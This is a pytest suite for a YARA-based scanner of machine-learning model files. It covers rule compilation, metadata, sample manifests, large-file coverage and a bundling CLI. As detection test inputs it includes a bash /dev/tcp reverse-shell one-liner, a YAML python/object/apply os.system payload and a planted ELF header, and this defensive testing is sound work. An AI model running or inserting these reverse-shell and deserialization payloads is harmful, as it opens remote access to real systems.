"""The YARA rule library: both engines, metadata, samples and manifest, the engine hook, the CLI."""
from __future__ import annotations

import json
import shutil
import struct
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from modelscreen.schemas import Severity, Verdict
from modelscreen.schemas.rules import SCOPES, RuleBundle, RuleMeta
from modelscreen.engine import Limits, scan_bytes
from modelscreen.engine.context import ScanContext
from modelscreen.engine.limits import Budget
from modelscreen.settings import apply_engine_settings
from modelscreen.engine.yara import (
    default_ruleset,
    load_ruleset,
    match,
    configure_default_ruleset,
    ruleset_from_bundle,
)
from modelscreen.engine.yara.hook import SMALL_ARTIFACT, scan_with_rules
from modelscreen.engine.yara.loader import ENGINES, RulesetError, parse_meta, parse_rules
from modelscreen.rule_bundles import load_samples
from modelscreen.rules_cli import rules

REPO = Path(__file__).resolve().parents[2]
RULES_DIR = REPO / "rules" / "yara"
SAMPLES = load_samples(REPO / "rules" / "samples.py").build_samples()
CATEGORIES = {"pickle", "shell", "executables", "smuggling", "encoded", "metadata", "template", "keras", "yaml",
              "miner", "stealer", "hub-iocs"}


@pytest.fixture(scope="module")
def rulesets():
    return {eng: load_ruleset(RULES_DIR, eng) for eng in ENGINES}


@pytest.fixture
def default_env(monkeypatch):
    """Isolate the process-wide default ruleset from environment changes made by a test."""
    configure_default_ruleset()
    yield monkeypatch
    monkeypatch.undo()
    configure_default_ruleset()


def _elf() -> bytes:
    ident = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 0, 64, 0, 0)


# --- compilation and metadata ---------------------------------------------------------------------


def test_library_compiles_with_both_engines_without_warnings(rulesets):
    versions = {rs.version for rs in rulesets.values()}
    assert len(versions) == 1 and len(next(iter(versions))) == 16
    for eng, rs in rulesets.items():
        assert rs.engine_name == eng
        assert rs.warnings == [], (eng, rs.warnings)
        assert len(rs.rules) >= 40


def test_every_rule_has_complete_metadata_and_a_unique_id():
    parsed, sources, problems = parse_rules(RULES_DIR)
    assert problems == []
    ids = [r.meta.id for r in parsed]
    names = [r.name for r in parsed]
    assert len(set(ids)) == len(ids) and len(set(names)) == len(names)
    assert {r.meta.category for r in parsed} == CATEGORIES
    for r in parsed:
        m = r.meta
        assert m.name.split("_", 1)[0] in ("MAL", "SUSP", "EXPL", "INFO")
        assert m.author == "modelscreen" and m.reference.startswith("https://")
        assert m.description and m.version >= 1 and 0 <= m.score <= 100
        assert set(m.scope) <= set(SCOPES) and m.scope
        assert r.path.split("/")[0] == m.category
        assert m.id.split("-")[1] in {"PKL", "SHL", "EXE", "SMG", "ENC", "META", "TPL", "KRS", "YML", "MIN", "STL", "HUB"}


def test_parsed_metadata_equals_what_yara_python_compiled(rulesets):
    compiled = rulesets["yara-python"].compiled(None)
    seen = {}
    for rule in compiled:  # yara-python exposes the compiled rules and their meta
        seen[rule.identifier] = rule.meta
    parsed = {r.name: r for r in rulesets["yara-python"].rules}
    assert set(seen) == set(parsed)
    for name, meta in seen.items():
        raw, problems = parse_meta(parsed[name].text)
        assert problems == [] and raw == meta, name


def test_invalid_metadata_duplicate_ids_and_bad_layout_are_reported(tmp_path):
    shutil.copytree(RULES_DIR, tmp_path / "yara")
    meta = ('        id = "MSY-PKL-001"\n        description = "duplicate id here"\n        author = "modelscreen"\n'
            '        date = "2026-11-26"\n        reference = "https://example.org/"\n        severity = "medium"\n'
            '        score = 50\n        category = "pickle"\n        version = 1\n        scope = "pickle"\n')
    (tmp_path / "yara" / "pickle" / "extra.yar").write_text(
        "rule SUSP_Dup\n{\n    meta:\n" + meta + "    strings:\n        $a = \"zzz\"\n    condition:\n        $a\n}\n\n"
        "rule BAD_Name\n{\n    meta:\n        id = \"MSY-PKL-999\"\n        severity = \"high\"\n        score = 10\n"
        "    condition:\n        false\n}\n"
    )
    (tmp_path / "yara" / "yaml" / "oneline.yar").write_text('rule INFO_One { condition: false }\n')
    with pytest.raises(RulesetError) as err:
        load_ruleset(tmp_path / "yara")
    text = "\n".join(err.value.problems)
    assert "duplicate rule id MSY-PKL-001" in text
    assert "BAD_Name: invalid metadata" in text and "name:" in text and "description: Field required" in text
    assert "INFO_One has no closing" in text


def test_ruleset_version_follows_content(tmp_path, rulesets):
    shutil.copytree(RULES_DIR, tmp_path / "yara")
    assert load_ruleset(tmp_path / "yara").version == rulesets["yara-x"].version
    f = tmp_path / "yara" / "miner" / "cryptominers.yar"
    f.write_text(f.read_text().replace('score = 80', 'score = 81', 1))
    assert load_ruleset(tmp_path / "yara").version != rulesets["yara-x"].version


# --- samples and manifest ---------------------------------------------------------------------------


@pytest.mark.parametrize("sample", SAMPLES, ids=[s.name for s in SAMPLES])
def test_sample_matches_exactly_its_manifest_under_both_engines(sample, rulesets):
    got = {eng: {m.rule_id for m in match(rs, sample.data)} for eng, rs in rulesets.items()}
    assert got["yara-x"] == got["yara-python"], got
    assert got["yara-x"] == set(sample.expect)


def test_every_rule_has_positive_samples_and_there_are_benign_ones(rulesets):
    ids = {r.meta.id for r in rulesets["yara-x"].rules}
    covered = set().union(*(s.expect for s in SAMPLES))
    assert ids == covered
    assert sum(1 for s in SAMPLES if not s.expect) >= 20
    names = [s.name for s in SAMPLES]
    assert len(set(names)) == len(names)


def test_match_reports_meta_offsets_and_a_bounded_escaped_excerpt(rulesets):
    data = b"\x00" * 100 + b"bash -i >& /dev/tcp/192.0.2.10/4444 0>&1" + b"\xff" * 10
    [m] = match(rulesets["yara-x"], data, base_offset=1000)
    assert m.rule_id == "MSY-SHL-001" and m.meta.severity is Severity.critical
    assert m.offset == 1100 and m.offsets[0] == 1100
    assert m.excerpt.startswith("bash -i >& /dev/tcp/") and len(m.excerpt) <= 400
    [n] = match(rulesets["yara-x"], _elf().rjust(200, b"\x01"))
    assert n.rule_id == "MSY-EXE-001" and "\\x7fELF" in n.excerpt


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.floats(width=32, allow_nan=False), min_size=1, max_size=4096))
def test_float_tensor_bytes_match_nothing(rulesets, values):
    data = struct.pack(f"<{len(values)}f", *values)
    assert match(rulesets["yara-x"], data) == []


# --- the engine hook ---------------------------------------------------------------------------------


def test_scan_bytes_reports_a_reverse_shell_with_the_rule_metadata():
    [report] = scan_bytes(b"#!/bin/sh\n# maintenance\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n", "run.sh")
    rs, _ = default_ruleset()
    [f] = [f for f in report.findings if f.rule_id == "MSY-SHL-001"]
    meta = rs.meta["MAL_Shell_Bash_Dev_Tcp_Reverse_Shell"]
    assert f.severity is Severity.critical and f.severity == meta.severity
    assert f.title.startswith("MAL_Shell_Bash_Dev_Tcp_Reverse_Shell: ") and meta.description in f.title
    assert f.analyzer == f"yara:{rs.version}"
    assert f.references == [meta.reference]
    assert f.location == "offset 24" and f.evidence.startswith("bash -i >&")
    assert report.verdict is Verdict.malicious


def test_scan_bytes_finds_elf_planted_at_30_mib_of_a_40_mib_file():
    size = 40 * 1024 * 1024
    data = bytearray(struct.pack("<f", 0.01) * (size // 4))
    at = 30 * 1024 * 1024 + 12
    data[at : at + 64] = _elf()
    [report] = scan_bytes(bytes(data), "big.bin")
    hits = [f for f in report.findings if f.rule_id == "MSY-EXE-001"]
    assert [f.location for f in hits] == [f"offset {at}"]
    assert report.verdict is Verdict.malicious
    assert not [f for f in report.findings if f.rule_id == "YARA-COVERAGE-PARTIAL"]


def _ctx(max_seconds: float = 300.0, size: int = 0) -> ScanContext:
    limits = Limits(max_seconds=max_seconds)
    return ScanContext(path="x", limits=limits, budget=Budget(limits), size=size)


def test_large_artifact_coverage_is_recorded(rulesets):
    size = SMALL_ARTIFACT + 5 * 1024 * 1024
    data = bytearray(size)
    data[100:121] = b"!!python/object/apply"  # header-scoped rules do not include yaml: no finding
    data[200:214] = b"210.117.212.93"  # scoped header: found in the head
    data[size - 50 : size - 50 + 64] = _elf()[:50]  # cut short: not a full header
    data[size - 3000 : size - 3000 + 64] = _elf()
    ctx = _ctx(size=size)
    scan_with_rules(ctx, lambda off, n: bytes(data[off : off + n]), size, "unknown", rulesets["yara-python"])
    cov = ctx.notes["yara_coverage"]
    assert cov["complete"] and cov["engine"] == "yara-python"
    assert cov["regions"][0] == {"start": 0, "end": 1024 * 1024, "rules": "header,metadata,pickle"}
    assert cov["regions"][1]["rules"] == "tensor-data" and cov["regions"][1]["end"] == size
    assert {f.rule_id for f in ctx.findings} == {"MSY-HUB-001", "MSY-EXE-001"}


def test_spent_budget_stops_the_scan_with_an_info_finding(rulesets):
    size = SMALL_ARTIFACT + 1
    ctx = _ctx(max_seconds=0.0, size=size)
    scan_with_rules(ctx, lambda off, n: b"\x00" * min(n, size - off), size, "unknown", rulesets["yara-x"])
    [f] = ctx.findings
    assert f.rule_id == "YARA-COVERAGE-PARTIAL" and f.severity is Severity.info
    assert ctx.notes["yara_coverage"]["complete"] is False


@pytest.mark.parametrize("sample", [s for s in SAMPLES if not s.expect], ids=lambda s: s.name)
def test_benign_samples_stay_clean_through_the_engine(sample):
    reports = scan_bytes(sample.data, sample.name)
    yara_findings = [f for r in reports for f in r.findings if (f.analyzer or "").startswith("yara")]
    assert yara_findings == []


def test_engine_works_when_the_rules_cannot_be_loaded(default_env, tmp_path):
    default_env.setenv("MODELSCREEN_RULES_DIR", str(tmp_path / "missing"))
    apply_engine_settings()
    [report] = scan_bytes(b"bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n", "a.sh")
    assert [f.rule_id for f in report.findings] == ["YARA-RULES-UNAVAILABLE"]
    assert report.findings[0].severity is Severity.medium  # never clean without the rules
    assert report.verdict is not Verdict.clean


def test_yara_python_is_selected_by_environment(default_env):
    default_env.setenv("MODELSCREEN_YARA_ENGINE", "yara-python")
    apply_engine_settings()
    rs, reason = default_ruleset()
    assert reason is None and rs.engine_name == "yara-python"
    [report] = scan_bytes(b"x = '!!python/object/apply:os.system [\"true\"]'\n", "c.yaml")
    assert [f.rule_id for f in report.findings] == ["MSY-YML-001"]


# --- bundle and CLI --------------------------------------------------------------------------------


def test_bundle_round_trips(rulesets):
    bundle = rulesets["yara-x"].bundle()
    again = RuleBundle.model_validate_json(bundle.model_dump_json())
    rs = ruleset_from_bundle(again, "yara-python")
    assert rs.version == bundle.version and len(rs.rules) == len(bundle.rules)
    tampered = again.model_copy(update={"version": "0" * 16})
    with pytest.raises(RulesetError):
        ruleset_from_bundle(tampered)


def test_cli_bundle_writes_a_versioned_bundle(tmp_path, rulesets):
    out = tmp_path / "bundle.json"
    res = CliRunner().invoke(rules, ["bundle", "-o", str(out)])
    assert res.exit_code == 0, res.output
    doc = json.loads(out.read_text())
    assert doc["version"] == rulesets["yara-x"].version and doc["format"] == "modelscreen-yara-bundle/1"
    assert {m["id"] for m in doc["rules"]} == {r.meta.id for r in rulesets["yara-x"].rules}
    assert all(RuleMeta.model_validate(m) for m in doc["rules"])
    stdout = CliRunner().invoke(rules, ["bundle"])
    assert stdout.exit_code == 0 and json.loads(stdout.output)["version"] == doc["version"]


def test_cli_test_passes_on_the_library():
    res = CliRunner().invoke(rules, ["test", str(RULES_DIR)])
    assert res.exit_code == 0, res.output[-3000:]
    assert "rules pass" in res.output and "FAIL" not in res.output


def test_cli_test_fails_on_a_rule_that_misses_its_manifest(tmp_path):
    shutil.copytree(REPO / "rules", tmp_path / "rules", ignore=shutil.ignore_patterns("__pycache__"))
    f = tmp_path / "rules" / "yara" / "yaml" / "python_tags.yar"
    f.write_text(f.read_text().replace("!!python\\/(name|module):", "!!python\\/(nome|module):"))
    res = CliRunner().invoke(rules, ["test", str(tmp_path / "rules" / "yara")])
    assert res.exit_code == 1
    assert "MSY-YML-002" in res.output and "missed positive config_name.yaml" in res.output
